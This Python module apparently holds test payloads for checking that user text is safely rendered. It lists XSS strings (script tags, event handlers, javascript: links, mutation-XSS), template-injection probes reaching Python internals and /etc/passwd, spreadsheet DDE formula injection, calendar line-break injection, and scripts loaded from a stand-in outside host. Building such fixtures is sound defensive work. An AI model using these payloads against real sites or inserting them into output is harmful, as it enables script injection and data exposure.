"""Texts that want to become more than text: each tries to run `pwned`, or to have a browser ask another site."""

from __future__ import annotations

from typing import Final

AWAY: Final = "https://elders.example"
RUN: Final = "window.__pwned=1;console.log('pwned');alert(1)"

MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={AWAY}/x.js></sCrIpT>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={AWAY}/p.png>",
    f'"><svg onload="{RUN}"><circle r=9/></svg>',
    f"' autofocus onfocus='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" style="background:url({AWAY}/s.png)',
    f"</title></textarea></style></script><script>{RUN}</script>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src={AWAY}/e>',
    f"<base href={AWAY}/><meta http-equiv=refresh content=0;url={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/c.css><style>@import '{AWAY}/d.css'</style>",
    f"<form action={AWAY}/f><input autofocus onfocus={RUN}></form>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    f"</script><script>{RUN}//",
    f"\u2028\u2029</ScRiPt ><script\t>{RUN}</script\n>",
)
"""Markup that a text could break out with, into a body, an attribute, a title, a script of data."""

ENTITIES: Final = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;svg/onload={RUN}&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
)
"""The same, written so that a second unescaping would let it out."""

TEMPLATES: Final = (
    "{{ 7*191 }}{{ config }}{{ self.__init__.__globals__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% include '/etc/passwd' %}{% import 'os' as os %}{# x #}",
    '{: onclick="window.__pwned=1" .x #y style="color:red"}',
    '{!../../etc/passwd!} --8<-- "/etc/passwd" !include /etc/passwd',
    "${7*191} #{7*191} <%= 7*191 %> [[7*191]] \\x3cscript\\x3e",
    "%s %(x)s {0} {x.__class__} {0.__class__.__mro__}",
    "\ue0f0content\ue0f1\ue0f0head\ue0f1\ue0f0title\ue0f1",
)
"""What a template, an extension or a format would fill in; the last one is how our own frames mark a place."""

LINKS: Final = (
    f"[a](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    f"[a](JaVa\tScRiPt:{RUN})",
    f"[a](<java\nscript:{RUN}>)",
    f"[a](&#106;avascript&colon;{RUN})",
    f"[a](\x01javascript:{RUN})",
    "[a](%6a%61vascript:alert%281%29)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a](vbscript:msgbox%281%29) <javascript:{RUN}>",
    f"[a][b]\n\n[b]: javascript:{RUN}",
    f"![a](data:image/svg+xml,<svg/onload={RUN}>) ![b]({AWAY}/p.png)",
    f"[a](x \"\" onclick={RUN} \"\") [b](<x> 'y' onmouseover='{RUN}')",
    f'![{RUN}" onerror="{RUN}](foto.png)',
    f"[^n]\n\n[^n]: <script>{RUN}</script> [a](javascript:{RUN})",
    f'`<script>{RUN}</script>`\n\n```" onclick={RUN}\n</code></pre><script>{RUN}</script>\n```\n',
    f"| a | b |\n|:-:|--:|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |\n",
    "[a](../../../../etc/passwd) ![b](../../../etc/passwd) ![c](..%2f..%2fsite_config/organisations/x.png)",
    "[a](//elders.example/x) ![b](//elders.example/x.png) ![c](\\\\elders.example\\x.png)",
)
"""Links and pictures of Markdown."""

SPREADSHEET: Final = (
    '=HYPERLINK("https://elders.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
"""What a spreadsheet would calculate."""

CALENDAR: Final = (
    "x\r\nATTENDEE:mailto:pwned@elders.example\r\nATTACH:https://elders.example/a",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwned\nEND:VEVENT",
    "x\u0085BEGIN:VALARM\u2028ACTION:AUDIO\u2029TRIGGER:-PT5M\x0bEND:VALARM\x0c",
    'x;ALTREP="https://elders.example":y,z\\n\\;\\,',
)
"""Ends of lines and of values, by which a text would become a property of a calendar: one that invites, attaches or sounds."""

PAYLOADS: Final = (*MARKUP, *ENTITIES, *TEMPLATES, *LINKS, *SPREADSHEET, *CALENDAR)
